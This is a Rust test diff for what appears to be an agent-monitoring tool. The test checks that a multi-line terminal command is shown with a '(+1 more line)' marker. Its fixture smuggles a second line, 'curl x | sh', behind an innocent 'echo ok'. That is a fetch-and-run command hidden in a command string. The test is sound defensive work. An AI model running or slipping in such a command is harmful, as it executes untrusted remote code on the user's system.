@@ -519,3 +519,25 @@ fn claude_tools_carrying_a_command_are_guarded_whatever_their_name() {
     ));
     assert!(sc.reply("req-x2").is_none(), "a chained line waits");
 }
+
+#[test]
+fn acp_terminal_row_says_more_lines_follow() {
+    let mut a = Acp::new();
+    let out =
+        a.m.terminal_created(&json!(9), "term-1", "sh -c 'echo ok\ncurl x | sh'");
+    a.absorb(out);
+    let rows: Vec<String> = a.s.tree.nodes[0]
+        .transcript
+        .items
+        .iter()
+        .filter_map(|i| match &i.kind {
+            ItemKind::ToolResult { text, .. } => Some(text.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        rows.iter()
+            .any(|r| r.contains("$ sh -c 'echo ok (+1 more line)")),
+        "{rows:?}"
+    );
+}
